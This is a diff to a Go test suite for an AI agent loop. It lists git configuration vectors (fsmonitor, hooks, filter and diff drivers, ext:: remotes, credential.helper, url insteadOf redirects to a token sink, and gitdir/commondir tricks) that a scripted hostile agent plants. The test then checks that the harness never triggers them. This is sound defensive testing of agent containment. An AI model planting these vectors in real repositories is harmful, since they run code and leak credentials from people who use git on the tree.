@@ -2,11 +2,10 @@ package main_test
 
 import (
 	"fmt"
-	"net"
+	"maps"
 	"net/http"
 	"net/http/httptest"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strings"
 	"sync/atomic"
@@ -16,155 +15,114 @@ import (
 	"github.com/ralph-loop/ralph/internal/testsupport/short"
 )
 
-// lair is where a vector is laid, and where it is heard of if it goes off.
-type lair struct {
-	dir    string
-	canary string
-	sink   *httptest.Server
-	asked  atomic.Int32 // how many came to the sink
+const (
+	marked   = `echo '* filter=evil diff=evil merge=evil' >>.git/info/attributes; `
+	watching = `printf '[core]\n\tfsmonitor = EVIL\n' >`
+	missing  = `git rm -qr --cached .; echo gone >gone.txt; git add gone.txt; git commit -qm gone
+id=$(git rev-parse HEAD:gone.txt); rm -f .git/objects/$(echo $id | cut -c1-2)/$(echo $id | cut -c3-); rm gone.txt; `
+)
+
+// gitVectors are ways to have git do something for the author of its tree, by what the agent leaves in
+// the tree's repository. The test puts in the words in capitals: EVIL is a program that leaves a file in
+// the folder CANARY, SINK is where credentials would be heard, REMOTE is the repository on GitHub, AT a
+// folder of the agent's own.
+var gitVectors = []string{
+	`git config core.fsmonitor EVIL`,
+	asHooks("AT/hooks") + `; git config core.hooksPath AT/hooks`,
+	asHooks(".git/hooks"),
+	marked + `git config filter.evil.clean EVIL; echo 2 >>README.md`,
+	marked + `git config filter.evil.smudge EVIL; git config filter.evil.required true`,
+	marked + `git config filter.evil.process EVIL; echo 2 >>README.md`,
+	`git config diff.external EVIL; echo 2 >>README.md`,
+	marked + `git config diff.evil.textconv EVIL; echo 2 >>README.md`,
+	marked + `git config diff.evil.command EVIL; echo 2 >>README.md`,
+	marked + `git config merge.evil.driver EVIL`,
+	`git config gpg.program EVIL; git config commit.gpgSign true`,
+	`git config core.editor EVIL`,
+	`git config core.sshCommand EVIL; git config remote.origin.url ssh://missing.invalid/x`,
+	`git config core.gitProxy EVIL; git config remote.origin.url git://missing.invalid/x`,
+	`git config core.alternateRefsCommand EVIL`,
+	`git config trailer.x.key X; git config trailer.x.command EVIL; git config trailer.x.ifmissing add`,
+	`git config remote.origin.url "$PWD"; git config remote.origin.uploadpack EVIL`,
+	`git config remote.origin.url 'ext::EVIL'; git config protocol.ext.allow always`,
+	watching + `AT/more; git config include.path AT/more`,
+	`git config extensions.worktreeConfig true; ` + watching + `.git/config.worktree`,
+	`git config url.SINK/.insteadOf REMOTE`,
+	`git config url.SINK/.pushInsteadOf REMOTE`,
+	`git config http.proxy SINK`,
+	`git config remote.REMOTE.url SINK/x.git`,
+	`git config credential.helper '!EVIL'`,
 }
 
-func newLair(t *testing.T) *lair {
-	t.Helper()
-	dir := t.TempDir()
-	l := &lair{dir: dir, canary: filepath.Join(dir, "canary")}
-	for _, folder := range []string{l.canary, filepath.Join(dir, "at")} {
-		if err := os.MkdirAll(folder, 0o755); err != nil {
-			t.Fatal(err)
-		}
-	}
-	l.sink = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
-		l.asked.Add(1)
-		w.WriteHeader(http.StatusTeapot)
-	}))
-	t.Cleanup(l.sink.Close)
-	return l
+// gitVectorsAlone leave a repository in which others could not be laid, by their names.
+var gitVectorsAlone = map[string]string{
+	"lazy fetch": missing + `git config core.repositoryFormatVersion 1; git config extensions.partialClone evil; git config remote.evil.promisor true;
+git config remote.evil.url 'ext::EVIL'; git config protocol.ext.allow always`,
+	"core.worktree":  `git config core.worktree CANARY`,
+	".git as a file": `mv .git AT/git; echo "gitdir: AT/git" >.git; ` + watching + `AT/git/config`,
+	".git as a link": `mv .git AT/git; ln -s AT/git .git; ` + watching + `AT/git/config`,
+	"commondir":      `cp -r .git AT/common; echo AT/common >.git/commondir; ` + watching + `AT/common/config`,
+	"submodule.update": `git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub; git config submodule.sub.update '!EVIL'; git config submodule.sub.url "$PWD";
+printf '[submodule "sub"]\n\tpath = sub\n\turl = ./x\n' >.gitmodules`,
 }
 
-// words puts in what the vectors speak of.
-func (l *lair) words(t *testing.T, text, remote string) string {
-	t.Helper()
-	evil := filepath.Join(l.dir, "evil")
-	program := fmt.Sprintf("#!/bin/sh\necho \"$0 $*\" >>%s/ran\nexit 1\n", l.canary)
-	if err := os.WriteFile(evil, []byte(program), 0o755); err != nil {
-		t.Fatal(err)
-	}
-	return strings.NewReplacer("EVIL", evil, "CANARY", l.canary, "SINK", l.sink.URL, "REMOTE", remote, "AT", filepath.Join(l.dir, "at")).Replace(text)
+// asHooks leaves the vector's program as every hook in dir.
+func asHooks(dir string) string {
+	return `mkdir -p ` + dir + `; for hook in pre-commit post-commit post-checkout post-index-change reference-transaction post-rewrite; do cp EVIL ` + dir + `/$hook; done`
 }
 
-// heard returns what happened: what ran, what was written, who asked.
-func (l *lair) heard(t *testing.T) []string {
-	t.Helper()
-	var found []string
-	there, err := os.ReadDir(l.canary)
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, entry := range there {
-		text, _ := os.ReadFile(filepath.Join(l.canary, entry.Name()))
-		found = append(found, entry.Name()+": "+string(text))
-	}
-	if n := l.asked.Load(); n > 0 {
-		found = append(found, fmt.Sprintf("%d came to the sink", n))
-	}
-	return found
-}
-
-// Every vector goes off where git is used without care: else it would prove
-// nothing that it does not go off in a run.
-func TestTheVectorsOfATreeGoOff(t *testing.T) {
-	t.Parallel()
-	for _, v := range gitVectors {
-		t.Run(v.name, func(t *testing.T) {
-			t.Parallel()
-			l, dir := newLair(t), filepath.Join(t.TempDir(), "tree")
-			remote := "http://" + nobodyAt(t) + "/octo/greeter.git"
-			begin := `git init -q -b main up; cd up; echo 1 >README.md; git add .; git commit -qm one; cd ..; git clone -q --shared up tree; cd tree; `
-			shell(t, filepath.Dir(dir), begin+l.words(t, v.plant, remote))
-			if before := l.heard(t); len(before) > 0 {
-				t.Fatalf("it went off as it was laid: %q", before)
-			}
-			shell(t, dir, l.words(t, "AUTH='Authorization: Basic x'; "+v.fire, remote))
-			if len(l.heard(t)) == 0 {
-				t.Error("plain git does not set it off")
-			}
-		})
-	}
-}
-
-// shell has somebody work with git. How it ends says nothing.
-func shell(t *testing.T, dir, script string) {
-	t.Helper()
-	cmd := exec.CommandContext(t.Context(), "sh", "-c", script)
-	cmd.Dir, cmd.Env = dir, append(gitEnv(), "GIT_ALLOW_PROTOCOL=file:git:http:ssh:ext", "HOME="+t.TempDir())
-	out, err := cmd.CombinedOutput()
-	t.Logf("%v: %s", err, out)
-}
-
-// nobodyAt returns an address without a listener.
-func nobodyAt(t *testing.T) string {
-	t.Helper()
-	l, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer l.Close()
-	return l.Addr().String()
-}
-
-// inRuns returns the vectors of each run: with ATTACK every one has its own, else
-// those share one that can.
-func inRuns() []vector {
-	if os.Getenv("ATTACK") != "" {
-		return gitVectors
-	}
-	all, apart := vector{name: "all together"}, []vector{}
-	for _, v := range gitVectors {
-		if v.alone {
-			apart = append(apart, v)
-			continue
-		}
-		all.plant += v.plant + "\n"
-	}
-	return append(apart, all)
-}
-
-// A whole job, in which the agent leaves a vector in its tree's repository: it
-// sets nothing off, and the token goes to GitHub alone. There is no sandbox,
+// A whole job, in which the agent leaves vectors in its tree's repository: they
+// set nothing off, and the token goes to GitHub alone. There is no sandbox,
 // which would hide that something ran.
 func TestTheVectorsOfATreeDoNotGoOffInARun(t *testing.T) {
 	t.Parallel()
-	for _, v := range inRuns() {
-		if !short.Has(v.name) {
+	runs := map[string]string{"all together": strings.Join(gitVectors, "\n")}
+	maps.Copy(runs, gitVectorsAlone)
+	for name, plant := range runs {
+		if !short.Has(name) {
 			continue
 		}
-		t.Run(v.name, func(t *testing.T) {
+		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			l := newLair(t)
-			s := newScene(t, func(s *scene) { s.hostile(l, v.plant) })
+			dir := t.TempDir()
+			var asked atomic.Int32
+			sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+				asked.Add(1)
+				w.WriteHeader(http.StatusTeapot)
+			}))
+			t.Cleanup(sink.Close)
+			evil, canary := filepath.Join(dir, "evil"), filepath.Join(dir, "canary")
+			s := newScene(t, func(s *scene) {
+				s.write(filepath.Join(canary, "x"), "")
+				s.write(filepath.Join(dir, "at", "x"), "")
+				s.write(evil, fmt.Sprintf("#!/bin/sh\necho \"$0 $*\" >>%s/ran\nexit 1\n", canary))
+				if err := os.Chmod(evil, 0o755); err != nil {
+					t.Fatal(err)
+				}
+				words := strings.NewReplacer("EVIL", evil, "CANARY", canary, "SINK", sink.URL,
+					"REMOTE", s.URL+"/"+shop+".git", "AT", filepath.Join(dir, "at"))
+				s.write(s.path("script.txtar"), firstPart+"-- 1/run --\n"+words.Replace(plant)+"\n-- 2/say --\nnothing\n")
+			})
 			if code := s.end(s.begin("SET_limits.maxIterations=2")); code != 0 {
 				t.Errorf("exit %d, want 0", code)
 			}
-			if looked := s.count(journal.Type(journal.CommitsTaken{})); looked == 0 {
+			if count(s.entries())[journal.Type(journal.CommitsTaken{})] == 0 {
 				t.Error("the run never looked at what the agent left")
 			}
-			if heard := l.heard(t); len(heard) > 0 {
-				t.Errorf("it went off: %q", heard)
+			if ran, err := os.ReadFile(filepath.Join(canary, "ran")); err == nil {
+				t.Errorf("it went off: %s", ran)
+			}
+			if left, err := os.ReadDir(canary); err != nil || len(left) != 1 {
+				t.Errorf("something was written into the canary: %v, %v", left, err)
+			}
+			if n := asked.Load(); n > 0 {
+				t.Errorf("%d came to the sink", n)
 			}
 		})
 	}
 }
 
-// hostile has the agent of the first iteration do its work, and a workflow
-// besides that has to be put back, and then leave the vector.
-func (s *scene) hostile(l *lair, plant string) {
-	s.t.Helper()
-	script := "hostile\n" + firstPart + "-- 1/run --\n" + l.words(s.t, plant, s.URL+"/"+shop+".git") + "\n-- 2/say --\nnothing\n"
-	if err := write(s.path("script.txtar"), []byte(script)); err != nil {
-		s.t.Fatal(err)
-	}
-}
-
+// firstPart does the work of the first iteration, and a workflow besides that has to be put back.
 const firstPart = `-- 1/write/greet.sh --
 echo "Hello${1:+, }$1!"
 -- 1/write/tests/name.sh --
@@ -178,14 +136,3 @@ feat: [US-001] - greet by name
 -- 1/write/README.md --
 left as it is
 `
-
-func (s *scene) count(kind string) int {
-	s.t.Helper()
-	n := 0
-	for _, entry := range s.entries() {
-		if journal.Type(entry.Event) == kind {
-			n++
-		}
-	}
-	return n
-}
